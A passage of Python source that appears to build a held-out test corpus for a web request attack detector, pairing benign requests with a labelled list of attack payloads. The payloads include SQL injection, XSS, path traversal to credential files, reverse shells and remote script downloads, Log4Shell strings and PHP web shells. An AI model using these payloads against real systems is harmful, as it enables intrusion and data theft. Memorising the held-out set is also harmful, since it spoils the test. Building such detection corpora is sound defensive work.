    "passwords like 'P@ss; w0rd' are rejected at signup",
    "x = 1; y = 2; print(x + y)",
    "#1 best seller!! 50% off -- today only",
    "Is it true that 1' = 12\"?",
    "ordering 2 x 'AA' batteries and 1 x \"C\"",
    "the cat sat on the mat; then it slept",
    "and/or: which is correct here?",
    "my son's name is O'Neil-Smith & he's 7",
    "the return label says <<FRAGILE>> on it",
    "Q: 'Where is my refund?' A: 'Within 5-7 days.'",
    "wine & cheese evening @ 7pm (RSVP by Fri)",
    "the shell of the case cracked after a drop",
    "can I exec-ute the return online or only in store?",
)
"""Free text, each sent once: as a search, a forum post (form) or a JSON comment, in turn."""

HELDOUT5_BENIGN_QUERIES: tuple[str, ...] = (
    "q=%22mens+shoes%22+-kids&page=3",
    "q=o%27reilly+books",
    "search=%3Cspan%3E+vs+%3Cdiv%3E",
    "fbclid=IwAR2abc_def-GHI&utm_source=facebook&utm_medium=social",
    "gclid=Cj0KCQiA-abc_DEF&gad_source=1",
    "filter%5Bstatus%5D=published&include=author,comments&page%5Bsize%5D=20",
    "select=id,title,author(name)&order=created_at.desc&limit=10",
    "q=select+from+where+tutorial",
    "sort=-price,name&fields%5Bproducts%5D=title,price",
    "query=%7Bproducts(first%3A5)%7Bedges%7Bnode%7Bid%7D%7D%7D%7D",
    "hl=en&gl=GB&ceid=GB:en",
    "returnUrl=%2Faccount%2Forders%3Fpage%3D2",
    "next=%2Fcheckout%2Fshipping",
    "lat=51.5074&lng=-0.1278&radius=5km",
    "q=c%2B%2B+vs+c%23",
    "ids=1,2,3,4,5&expand=variants",
    "cb=1700000000&format=json&callback=cb_123",
    "text=don%27t+stop+me+now&lang=en",
    "q=%E2%80%9Csmart+quotes%E2%80%9D",
    "q=1%2F2+inch+pipe+%26+fittings",
    "color=%23ff0000&size=M",
    "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc-DEF_ghi",
)
"""Whole query strings: searches, ad click ids, JSON:API, PostgREST, GraphQL GET, redirects."""

HELDOUT5_BENIGN_PATHS: tuple[str, ...] = (
    "/products/select-comfort-pillow",
    "/blog/union-square-cafe-review",
    "/docs/api/v2/exec-summary",
    "/category/shell-jackets",
    "/collections/drop-shoulder-tees",
    "/u/jane.doe",
    "/r/programming/comments/abc123/what_is_etcpasswd",
    "/wiki/Cross-site_scripting",
    "/wiki/SQL_injection",
    "/static/js/main.4f3a2b1c.chunk.js",
    "/fonts/inter-var-latin.woff2",
    "/images/products/42/main@2x.webp",
    "/sitemap_index.xml",
    "/feed.xml",
    "/account/orders/2024-0001",
    "/de-de/produkte/k%C3%BCchenmaschine",
    "/search/shoes%20%26%20boots",
    "/cart/add/42/1",
    "/.well-known/apple-app-site-association",
    "/ads.txt",
)

HELDOUT5_BENIGN_JSON: tuple[object, ...] = (
    {"comment": "Try `SELECT * FROM users WHERE id = $1` with a prepared statement"},
    {"content": "<blockquote>Great product</blockquote><p>5 stars</p>"},
    {"snippet": '<button onclick="toggle()">Menu</button>', "lang": "html"},
    {"message": "cd ~/project && npm install && npm run build"},
    {"query": "{ user(id: 1) { posts(orderBy: {createdAt: desc}) { title } } }"},
    {"order": {"items": [{"sku": "A-1", "qty": 2}], "notes": "leave at door; ring twice"}},
    {"import": "../components/Button", "kind": "module"},
    {"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"},
    {"template": "Hello {{name}}, your order {{order_id}} has shipped"},
    {"sql": "SELECT 1", "database": "analytics"},
    {"description": "Drop-in replacement; union-made in the USA; 100% cotton"},
    {"address": "1 O'Brien's Lane", "notes": "gate code #1234*"},
    {"events": [{"type": "click", "target": "a#buy-now.btn"}]},
    {"markdown": "```js\nconst x = document.querySelector('#app');\n```"},
    {"cron": "*/5 * * * *", "command": "php artisan schedule:run"},
    {"ua": CHROME, "viewport": "390x844"},
    {"filters": {"price": {"gte": 10, "lte": 50}, "tags": ["sale", "new"]}},
    {"password": "c0rrect-h0rse; battery 'staple'", "confirm": "c0rrect-h0rse; battery 'staple'"},
    {"bio": "Full-stack dev. <3 Rust & Go. Opinions my own."},
    {"search": '"red dress" -maxi', "page": 2},
    {"title": "Re: [bug] cart total = NaN when qty < 1"},
    {"payload": {"text": "/deploy production", "user": "sam"}},
)

HELDOUT5_BENIGN_COOKIES: tuple[str, ...] = (
    "_fbp=fb.1.1700000000000.123456789; _gcl_au=1.1.123.1700000000",
    "OptanonConsent=isGDPRRegion=true&datestamp=Mon+Nov+27+2023+10%3A00%3A00+GMT%2B0000"
    "&version=202310.1.0&groups=C0001%3A1%2CC0002%3A0",
    "cookieyes-consent=consentid:abc,consent:yes,action:yes,necessary:yes,analytics:no",
    "connect.sid=s%3Aabc123.def456%2Bghi; theme=dark",
    "JSESSIONID=ABCDEF1234567890.node1",
    "ASP.NET_SessionId=abc123def456; .AspNetCore.Antiforgery.xyz=CfDJ8abc-def_ghi",
    "_shopify_y=abc-123; cart=c1-abc123; cart_currency=GBP",
    "rack.session=BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiRTM%3D--abc123",
    "remember_web_59ba36addc2b2f9401580f014c7f58ea4e30989d=eyJpdiI6Ikx1",
    "recently_viewed=%5B%2242%22%2C%2217%22%5D; currency=EUR",
    "search_history=drop%20leaf%20table|union%20jack%20flag",
    "mp_abc_mixpanel=%7B%22distinct_id%22%3A%20%22123%22%2C%22%24initial_referrer%22%3A%20"
    "%22%24direct%22%7D",
)

HELDOUT5_BENIGN_REFERERS: tuple[str, ...] = (
    "https://www.google.com/",
    "https://www.google.co.uk/search?q=select+comfort+mattress+review",
    "https://stackoverflow.com/questions/123/how-to-prevent-sql-injection-in-php",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://shop.example.com/search?q=%22shell+jacket%22+%26+boots",
    "https://www.linkedin.com/",
    "https://outlook.live.com/",
    "https://search.yahoo.com/search?p=%3Cdiv%3E+centering",
    "https://www.baidu.com/s?wd=%E9%9E%8B",
    "https://owasp.org/www-community/attacks/xss/",
)

HELDOUT5_BENIGN_UAS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 Instagram 331.0.0.37.90 (iPhone15,3; iOS 17_5; en_GB; en-GB; "
    "scale=3.00; 1290x2796; 602284618)",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/125.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/465.0.0.45.108;FBBV/600000000;FBDV/iPhone14,5;"
    "FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBID/phone;FBLC/en_GB;FBOP/5]",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; "
    "+https://openai.com/gptbot)",
    "python-requests/2.31.0",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "PostmanRuntime/7.37.3",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
    "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)",
    "UptimeRobot/2.0 (http://www.uptimerobot.com/)",
)
"""Desktop and in-app browsers, SEO and AI crawlers, HTTP libraries, consoles, old IE, Office."""

_H5_BOUNDARY = "----WebKitFormBoundary5hQ2xYzA"


def _multipart(boundary: str, *parts: tuple[str, str | None, str | None, bytes]) -> bytes:
    """A multipart body of (name, filename, content type, content) parts."""
    out = b""
    for name, filename, ctype, content in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        head = f"--{boundary}\r\nContent-Disposition: {disp}\r\n"
        if ctype:
            head += f"Content-Type: {ctype}\r\n"
        out += head.encode() + b"\r\n" + content + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


def _h5_multipart(*parts: tuple[str, str | None, str | None, bytes]) -> bytes:
    """A multipart body of (name, filename, content type, content) parts, held-out 5's boundary."""
    return _multipart(_H5_BOUNDARY, *parts)


_H5_MULTIPART = {"Content-Type": f"multipart/form-data; boundary={_H5_BOUNDARY}"}

HELDOUT5_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
    # (method, path, query, extra headers, body): XML, multipart, several headers at once
    (
        "POST",
        "/soap/customers",
        "",
        {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '"urn:UpdateCustomer"'},
        b'<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.'
        b"xmlsoap.org/soap/envelope/\"><soap:Body><UpdateCustomer><Name>O'Brien &amp; Sons"
        b"</Name><Note>deliver to rear door; code #12</Note></UpdateCustomer></soap:Body>"
        b"</soap:Envelope>",
    ),
    (
        "POST",
        "/api/feed",
        "",
        {"Content-Type": "application/xml"},
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Shop news</title><item>'
        b"<title>New arrivals</title><description>&lt;p&gt;New &lt;b&gt;arrivals&lt;/b&gt; "
        b'&amp; &lt;a href="https://shop.example.com/new"&gt;offers&lt;/a&gt;&lt;/p&gt;'
        b"</description></item></channel></rss>",
    ),
    (
        "POST",
        "/api/import",
        "",
        {"Content-Type": "application/xml; charset=UTF-8"},
        b'<?xml version="1.0" encoding="UTF-8"?><catalog><product id="42" sku="A-1">'
        b'<name>Drop-leaf table</name><price currency="GBP">120.00</price><tags><tag>oak'
        b"</tag><tag>union-made</tag></tags></product></catalog>",
    ),
    (
        "POST",
        "/rpc",
        "",
        {"Content-Type": "text/xml"},
        b'<?xml version="1.0"?><methodCall><methodName>demo.sayHello</methodName><params>'
        b"<param><value><string>Hello, world!</string></value></param></params></methodCall>",
    ),
    (
        "POST",
        "/api/pages",
        "",
        {"Content-Type": "application/xhtml+xml"},
        b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 '
        b'Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://'
        b'www.w3.org/1999/xhtml"><head><title>About</title></head><body><p>About us</p></body>'
        b"</html>",
    ),
    (
        "POST",
        "/api/orders",
        "",
        {"Content-Type": "application/xml"},
        b'<?xml version="1.0"?><!-- generated by ERP v2 --><order><id>1234</id><note><![CDATA['
        b"Deliver to rear door; code 1234 -- call if late & leave with 'Bob' at No. 5]]></note>"
        b"</order>",
    ),
    (
        "POST",
        "/api/reports",
        "",
        {"Content-Type": "application/xml"},
        b"<?xml version=\"1.0\"?><report><filter>status = 'shipped' AND total &gt; 100</filter>"
        b"<sort>created_at DESC</sort></report>",
    ),
    (
        "POST",
        "/webhooks/erp",
        "",
        {"Content-Type": "text/xml; charset=utf-8"},
        '<?xml version="1.0" encoding="utf-8"?><event type="stock"><sku>KÜ-42</sku>'
        "<name>Küchenmaschine «Pro»</name><qty>7</qty></event>".encode(),
    ),
    (
        "POST",
        "/api/snippets",
        "",
        {"Content-Type": "application/xml"},
        b'<?xml version="1.0"?><snippet lang="html"><code>&lt;img src="logo.png" alt="Logo"'
        b"&gt;</code><title>Logo markup</title></snippet>",
    ),
    (
        "POST",
        "/community/posts",
        "",
        _H5_MULTIPART,
        _h5_multipart(
            ("title", None, None, b"subprocess question"),
            (
                "body",
                None,
                None,
                b"```python\nimport subprocess\nsubprocess.run(['ls', '-l'], check=True)\n```\n"
                b"why does this hang?",
            ),
            ("attachment", "screenshot 1.png", "image/png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
        ),
    ),
    (
        "POST",
        "/cms/upload",
        "",
        _H5_MULTIPART,
        _h5_multipart(
            (
                "file",
                "index.html",
                "text/html",
                b'<html><head><script src="app.js"></script></head><body onload="init()">'
                b"</body></html>",
            ),
            ("folder", None, None, b"landing-pages"),
        ),
    ),
    (
        "POST",
        "/careers/apply",
        "",
        _H5_MULTIPART,
        _h5_multipart(
            ("name", None, None, "Siobhán O'Neill".encode()),
            ("cv", "Sam's CV (final).pdf", "application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
            ("cover", None, None, b"I'd love to join -- see my work at https://sam.dev/#work"),
        ),
    ),
    (
        "POST",
        "/admin/products/42",
        "",
        _H5_MULTIPART,
        _h5_multipart(
            (
                "description",
                None,
                None,
                b'<p>Hello <em>there</em>, see <a href="/sale">sale</a></p>',
            ),
            ("price", None, None, b"19.99"),
        ),
    ),
    (
        "POST",
        "/import/csv",
        "",
        _H5_MULTIPART,
        _h5_multipart(
            (
                "file",
                "orders.csv",
                "text/csv",
                b'id,note\r\n1,"select the blue one"\r\n2,"drop off at 5"\r\n3,"a & b; c"\r\n',
            ),
        ),
    ),
    (
        "GET",
        "/products/42",
        "",
        {
            "Accept-Language": "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
            "If-None-Match": 'W/"5e15153d-120f"',
            "If-Modified-Since": "Wed, 21 Oct 2015 07:28:00 GMT",
            "Cache-Control": "max-age=0",
        },
        None,
    ),
    (
        "GET",
        "/",
        "",
        {
            "X-Forwarded-For": "203.0.113.195, 70.41.3.18, 150.172.238.178",
            "X-Real-IP": "203.0.113.195",
            "X-Forwarded-Port": "443",
            "X-Forwarded-Proto": "https",
        },
        None,
    ),
    (
        "GET",
        "/account",
        "",
        {
            "True-Client-IP": "198.51.100.23",
            "Fastly-Client-IP": "198.51.100.23",
            "X-Client-IP": "198.51.100.23",
            "Client-IP": "198.51.100.23",
        },
        None,
    ),
    (
        "GET",
        "/api/me",
        "",
        {
            "Authorization": "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0MiIsIm5hbWUi"
            "OiJTYW0ifQ.c2lnbmF0dXJlLWJ5dGVz",
            "X-CSRF-Token": "b1946ac92492d2347c6235b4d2611184",
            "X-Request-ID": "f47ac10b-58cc-4372-a567-0e02b2c3d479",
            "Accept": "application/json",
        },
        None,
    ),
    (
        "POST",
        "/graphql",
        "",
        {"Content-Type": "application/json; charset=UTF-8"},
        b'{"operationName":"Search","variables":{"q":"men\'s \\"slim\\" jeans","first":20},'
        b'"query":"query Search($q: String!, $first: Int) { search(q: $q, first: $first) '
        b'{ id title } }"}',
    ),
    (
        "PATCH",
        "/api/users/42",
        "",
        {"Content-Type": "application/merge-patch+json"},
        b'{"nickname": "drop_table_dave", "bio": null}',
    ),
    (
        "POST",
        "/api/events",
        "",
        {"Content-Type": "application/x-ndjson"},
        b'{"e":"view","p":"/"}\n{"e":"click","t":"#buy"}\n',
    ),
    (
        "POST",
        "/csp",
        "",
        {"Content-Type": "application/csp-report"},
        b'{"csp-report":{"document-uri":"https://shop.example.com/cart","violated-directive":'
        b'"img-src","blocked-uri":"data","original-policy":"default-src \'self\'; img-src '
        b"'self' https://cdn.example.com\"}}",
    ),
    ("GET", "/videos/intro.mp4", "", {"Range": "bytes=0-1023"}, None),
    ("GET", "/api/articles", "page[number]=2", {"Accept": "application/vnd.api+json"}, None),
    (
        "GET",
        "/ws",
        "",
        {
            "Connection": "Upgrade",
            "Upgrade": "websocket",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Extensions": "permessage-deflate; client_max_window_bits",
        },
        None,
    ),
    (
        "POST",
        "/checkout/address",
        "",
        {"Content-Type": "application/x-www-form-urlencoded"},
        b"line1=Flat+2%2FB%2C+10+O%27Connell+St.&city=Dublin&notes=It%27s+the+blue+door+%26+"
        b"ring+%3C3+times%3E&country=IE",
    ),
    (
        "GET",
        "/",
        "",
        {
            "Via": "1.1 proxy.corp.example (squid/5.7)",
            "X-Forwarded-Host": "shop.example.com",
            "Forwarded": 'for="[2001:db8:cafe::17]:4711";proto=https',
            "X-Requested-With": "com.example.shopapp",
        },
        None,
    ),
    (
        "POST",
        "/api/upload",
        "",
        {"Content-Type": "application/octet-stream"},
        b"\x00\x01\x02PK\x03\x04'; --<script>\x00\xff\xfe",
    ),
    (
        "POST",
        "/saml/acs",
        "",
        {"Content-Type": "application/x-www-form-urlencoded"},
        b"SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoy"
        b"LjA6cHJvdG9jb2wiIElEPSJfYWJjIiBWZXJzaW9uPSIyLjAiPjwvc2FtbHA6UmVzcG9uc2U%2B"
        b"&RelayState=%2Faccount",
    ),
    (
        "POST",
        "/api/svg",
        "",
        {"Content-Type": "image/svg+xml"},
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" '
        b'r="4" fill="#f00"/></svg>',
    ),
)

HELDOUT5_ATTACKS: tuple[tuple[str, str, str], ...] = (
    # (category, delivery, payload); deliveries as in `_deliver`, plus `_deliver5`'s own.
    ("sqli", "query", "1' AND SLEEP(5)#"),
    ("sqli", "query", "' OR 1=1 LIMIT 1 -- -"),
    ("sqli", "double", "1') OR ('1'='1"),
    ("sqli", "raw", "1%27%20OR%20%271%27%3D%271"),
    ("sqli", "form", "x' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -"),
    ("sqli", "json", "' OR ''='"),
    ("sqli", "jsonarray", "1; SELECT pg_sleep(10)--"),
    ("sqli", "cookie", "1' AND 1=CONVERT(int,@@version)--"),
    ("sqli", "header:X-Real-IP", "10.0.0.1' AND SLEEP(3)-- -"),
    ("sqli", "header:X-Forwarded-For", "127.0.0.1' or '1'='1"),
    ("sqli", "header:Client-IP", "1.1.1.1' UNION SELECT 1,2-- -"),
    ("sqli", "ua", "Mozilla/5.0' AND (SELECT 5 FROM (SELECT(SLEEP(5)))x)-- -"),
    ("sqli", "referer", "https://shop.example.com/' OR 1=1#"),
    ("sqli", "xml", "<user><name>admin' OR '1'='1</name><pass>x</pass></user>"),
    ("sqli", "textxml", "<GetOrder><id>1 UNION SELECT password FROM users</id></GetOrder>"),
    (
        "sqli",
        "multipart",
        "1 AND 1=2 UNION SELECT 1,group_concat(user,0x3a,password),3 FROM mysql.user",
    ),
    ("sqli", "query", "1'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'"),
    (
        "sqli",
        "query",
        "1 AND 8573=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||'x'||CHR(62))) FROM DUAL)",
    ),
    ("sqli", "query", "1' AnD/**/1=1/**/--"),
    ("sqli", "double", "admin' or 1=1/*"),
    ("sqli", "rawquery", "id=-1+union+select+1,2,concat(user(),0x3a,database())--+"),
    ("sqli", "pathseg", "1' OR '1'='1"),
    ("sqli", "rawjson", '{"filter": {"$where": "sleep(5000)"}}'),
    ("sqli", "rawquery", "username[$ne]=x&password[$ne]=x"),
    ("sqli", "query", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("sqli", "query", "'; EXEC xp_cmdshell 'whoami'--"),
    ("xss", "query", "<script src=//x.example/x.js></script>"),
    ("xss", "double", "<img src=x onerror=alert(document.domain)>"),
    ("xss", "raw", "%3Csvg%20onload%3Dconfirm(1)%3E"),
    ("xss", "form", '<a href="javascript&colon;alert(1)">click</a>'),
    ("xss", "json", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("xss", "jsonarray", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("xss", "cookie", "<svg><script>alert&#40;1&#41;</script>"),
    ("xss", "ua", '"><svg onload=alert(1)>'),
    ("xss", "referer", 'https://x.example/"><script>alert(1)</script>'),
    ("xss", "header:X-Forwarded-Host", '"><script>alert(1)</script>'),
    ("xss", "xml", "<comment><body><![CDATA[<img src=x onerror=alert(1)>]]></body></comment>"),
    ("xss", "xml", "<comment><body>&lt;script&gt;alert(1)&lt;/script&gt;</body></comment>"),
    (
        "xss",
        "textxml",
        '<profile><avatar url="javascript:alert(document.cookie)"/><name>x</name></profile>',
    ),
    ("xss", "multipart", "<body onload=alert('XSS')>"),
    ("xss", "query", "<marquee onstart=alert(1)>"),
    ("xss", "query", "'-alert(1)-'"),
    ("xss", "query", "</title><script>alert(1)</script>"),
    ("xss", "query", '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    ("xss", "query", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("xss", "query", '<div style="background:url(javascript:alert(1))">'),
    ("xss", "rawquery", "returnUrl=javascript%3Aalert(1)"),
    ("xss", "query", "<x onmouseover=alert(1)>hover"),
    ("xss", "query", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("xss", "pathseg", "<script>alert(1)</script>"),
    ("xss", "query", "<form><button formaction=javascript:alert(1)>X"),
    ("xss", "query", "<embed src=javascript:alert(1)>"),
    ("lfi", "raw", "../../../../etc/passwd%00.jpg"),
    ("lfi", "query", "..\\..\\..\\..\\windows\\win.ini"),
    ("lfi", "double", "../../../../../etc/group"),
    ("lfi", "raw", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("lfi", "raw", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("lfi", "raw", "%252e%252e%252fetc%252fpasswd"),
    ("lfi", "query", "..././..././..././etc/passwd"),
    ("lfi", "query", "php://filter/read=string.rot13/resource=config.php"),
    ("lfi", "query", "phar://uploads/avatar.jpg/shell"),
    ("lfi", "query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("lfi", "query", "/proc/self/cmdline"),
    ("lfi", "query", "/root/.bash_history"),
    ("lfi", "query", "/home/ubuntu/.aws/credentials"),
    ("lfi", "path", "/.env"),
    ("lfi", "path", "/.aws/credentials"),
    ("lfi", "path", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("lfi", "path", "/download?file=../../../../etc/passwd"),
    ("lfi", "path", "/.htpasswd"),
    ("lfi", "json", "../../../../../../windows/win.ini"),
    ("lfi", "jsonarray", "/etc/shadow"),
    ("lfi", "cookie", "..%2f..%2f..%2fetc%2fpasswd"),
    ("lfi", "xml", "<doc><template>../../../../etc/passwd</template></doc>"),
    ("lfi", "multipart", "../../../../proc/self/environ"),
    ("lfi", "filename", "../../../../var/www/html/shell.php"),
    ("lfi", "header:Accept", "../../../../../../etc/passwd{{"),
    ("rce", "query", "| id"),
    ("rce", "query", "; uname -a"),
    ("rce", "raw", "%3Bcat%20%2Fetc%2Fpasswd"),
    ("rce", "double", "`id`"),
    ("rce", "double", "&& whoami"),
    ("rce", "form", "8.8.8.8; wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh"),
    ("rce", "json", "$(curl -s http://x.oast.example/$(whoami))"),
    ("rce", "jsonarray", "; nc -e /bin/sh 203.0.113.9 4444"),
    ("rce", "cookie", "; ping -c 3 x.oast.example"),
    ("rce", "ua", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    ("rce", "referer", "() { ignored; }; echo; /usr/bin/id"),
    ("rce", "header:X-Api-Version", "${jndi:ldap://x.oast.example/a}"),
    ("rce", "query", "${j${::-n}di:ldap://x.example/a}"),
    ("rce", "query", "${${upper:j}ndi:ldap://x.example/a}"),
    ("rce", "query", ";c''at /e't'c/pa''sswd"),
    ("rce", "query", ";ca\\t /et\\c/pas\\swd"),
    ("rce", "query", "a|tac${IFS}/etc/passwd"),
    ("rce", "raw", "127.0.0.1%0Aid"),
    ("rce", "query", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("rce", "query", "<%= `id` %>"),
    ("rce", "query", "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}"),
    ("rce", "form", "<?php echo shell_exec($_REQUEST['cmd']); ?>"),
    ("rce", "multipart", "<?php eval(base64_decode($_POST['x'])); ?>"),
    ("rce", "filename", "shell.php"),
    ("rce", "query", "1;system('cat /etc/passwd');"),
    ("rce", "json", "__import__('subprocess').check_output('id',shell=True)"),
    ("rce", "query", "; powershell -nop -w hidden -e SQBFAFgA"),
    ("rce", "query", "| cmd.exe /c dir C:\\"),
    ("rce", "query", "& certutil -urlcache -split -f http://x.example/a.exe a.exe"),
    ("rce", "xml", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://x.oast.example/evil.dtd"> %x;]><r/>'),
    ("rce", "textxml", '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>'),
    (
        "rce",
        "rawjson",
        '{"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require('
        "'child_process').execSync('id').toString())//\"}}",
    ),
    ("rce", "path", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh"),
    ("scanner", "ua", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    ("scanner", "ua", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    (
        "scanner",
        "ua",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    ("scanner", "ua", "gobuster/3.6"),
    ("scanner", "ua", "Fuzz Faster U Fool v2.1.0-dev"),
    ("scanner", "header:Acunetix-Aspect", "enabled"),
    ("scanner", "ua", "Mozilla/4.0 (Hydra)"),
    ("scanner", "ua", "feroxbuster/2.10.1"),
    ("scanner", "ua", "Mozilla/5.0 zgrab/0.x"),
    ("scanner", "ua", "WhatWeb/0.5.5"),
    ("scanner", "path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("scanner", "path", "/.svn/entries"),
    ("scanner", "path", "/manager/html"),
    ("scanner", "path", "/HNAP1/"),
    ("scanner", "path", "/boaform/admin/formLogin"),
    ("scanner", "path", "/autodiscover/autodiscover.json?@zdi/Powershell"),
    ("scanner", "path", "/server-info"),
    ("scanner", "path", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
    ("scanner", "path", "/shell.php"),
    ("scanner", "path", "/backup.sql"),
    ("scanner", "path", "/.idea/workspace.xml"),
    ("scanner", "path", "/api/jsonws/invoke"),
    ("scanner", "path", "/mgmt/tm/util/bash"),
    ("scanner", "path", "/actuator/env"),
    ("scanner", "path", "/debug/default/view?panel=config"),
    ("scanner", "path", "/.docker/config.json"),
    ("protocol", "method", "TRACE"),
    ("protocol", "method", "CONNECT"),
    ("protocol", "method", "DEBUG"),
    ("protocol", "method", "HACK"),
    ("protocol", "header:Content-Length", "5, 6"),
    ("protocol", "header:Content-Length", "+12"),
    ("protocol", "header:Transfer-Encoding", "xchunked"),
    ("protocol", "header:Transfer-Encoding", "identity"),
    ("protocol", "headers", "Expect: 100-continue\nTransfer-Encoding: chunked\nContent-Length: 3"),
    ("protocol", "header:Host", "203.0.113.5"),
    ("protocol", "raw", "x%0d%0aSet-Cookie:%20session=attacker"),
    ("protocol", "raw", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("protocol", "header:Range", "bytes=0-,0-,0-,0-,0-,0-,0-,0-,0-,0-"),
    ("protocol", "header:Range", "bytes=0-18446744073709551615"),
    ("protocol", "header:Content-Type", "application/x-www-form-urlencoded; charset=utf-7"),
    ("protocol", "raw", "a%00b"),
    ("protocol", "header:Connection", "close, X-Forwarded-For"),
    ("protocol", "ua", ""),
    (
        "protocol",
        "xml",
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
        "]><lolz>&lol2;</lolz>",
    ),
)


def _deliver5(cat: str, how: str, p: str, note: str) -> CorpusRequest:
    """Held-out 5's own deliveries, then `_deliver`'s: a SOAP-style `text/xml` body, a payload
    inside a JSON array of objects, an upload's file name, a URL-encoded path segment."""
    h = _headers()
    if how == "textxml":
        body = f'<?xml version="1.0" encoding="utf-8"?>{p}'.encode()
        h = {**h, "Content-Type": "text/xml; charset=utf-8", "Content-Length": str(len(body))}
        return CorpusRequest(cat, "POST", "/soap/orders", "", h, body, note)
    if how == "jsonarray":
        return _json(cat, "/api/cart", {"items": [{"sku": "A-1", "note": p}], "v": 2}, note)
    if how == "filename":
        body = _h5_multipart(("upload", p, "image/gif", b"GIF89a\x01\x00\x01\x00"))
        h = {**h, **_H5_MULTIPART, "Content-Length": str(len(body))}
        return CorpusRequest(cat, "POST", "/account/avatar", "", h, body, note)
    if how == "pathseg":
        return CorpusRequest(cat, "GET", f"/products/{quote(p, safe='')}", "", h, None, note)
    return _deliver(cat, how, p, note)


def heldout5_attacks() -> list[CorpusRequest]:
    """The fifth held-out attack set, each payload delivered the way its entry names."""
    return [_deliver5(c, how, p, f"held-out-5 {how}: {p[:120]}") for c, how, p in HELDOUT5_ATTACKS]


def heldout5_benign() -> list[CorpusRequest]:
    """The fifth held-out benign set: free text, queries, paths, JSON, headers, XML bodies,
    multipart uploads and several headers at once."""
    out = _benign_set(
        "held-out-5",
        HELDOUT5_BENIGN_TEXT,
